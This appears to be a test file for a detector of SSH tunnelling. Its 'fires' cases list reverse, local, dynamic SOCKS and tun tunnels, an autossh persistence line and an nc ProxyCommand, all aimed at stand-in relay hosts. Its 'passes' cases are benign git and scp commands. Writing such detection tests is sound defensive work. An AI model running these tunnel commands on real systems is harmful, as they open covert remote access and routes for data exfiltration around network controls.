import { describe } from 'vitest';
import { exec, sh, ruleTable } from '../../test-kit.js';
import { sshTunnelFlags } from './ssh-tunnel-flags.js';

describe('proc.ssh-tunnel-flags', () => {
  ruleTable(sshTunnelFlags, {
    fires: [
      {
        name: 'ssh -R (ROME)',
        event: exec(['ssh', '-R', '2222:localhost:22', 'user@relay.rogue.test']),
      },
      {
        name: 'combined -fNR',
        event: exec(['ssh', '-fNR', '9000:127.0.0.1:22', 'relay.rogue.test']),
      },
      { name: '-L', event: exec(['ssh', '-L', '5432:db:5432', 'bastion.rogue.test']) },
      { name: 'dynamic SOCKS -D', event: exec(['ssh', '-D1080', '-N', 'relay.rogue.test']) },
      { name: 'tun device -w', event: exec(['ssh', '-w', '0:0', 'relay.rogue.test']) },
      {
        name: '-o ProxyCommand',
        event: exec(['ssh', '-o', 'ProxyCommand=nc -X 5 -x proxy:1080 %h %p', 'host']),
      },
      {
        name: '-oRemoteForward',
        event: exec(['ssh', '-oRemoteForward=8080 localhost:80', 'relay.rogue.test']),
      },
      {
        name: 'autossh in a script',
        event: sh('autossh -M 0 -f -N -R 2222:localhost:22 relay.rogue.test'),
      },
      {
        name: 'port 443 with -p then -R',
        event: exec(['ssh', '-p', '443', '-R', '1:localhost:22', 'relay.rogue.test']),
      },
    ],
    passes: [
      {
        name: 'plain ssh command',
        event: exec(['ssh', 'git@registry.test', 'git-upload-pack', "'repo.git'"]),
      },
      {
        name: 'git over ssh as git runs it',
        event: exec(['ssh', '-o', 'SendEnv=GIT_PROTOCOL', 'git@registry.test', 'git-upload-pack']),
      },
      {
        name: 'identity file named -R-ish',
        event: exec(['ssh', '-i', '/workspace/.ssh/id_R', 'host.test', 'ls']),
      },
      { name: 'port option', event: exec(['ssh', '-p', '2222', '-l', 'dev', 'host.test']) },
      { name: 'scp -r', event: exec(['scp', '-r', 'dir', 'host.test:/tmp']) },
    ],
  });
});
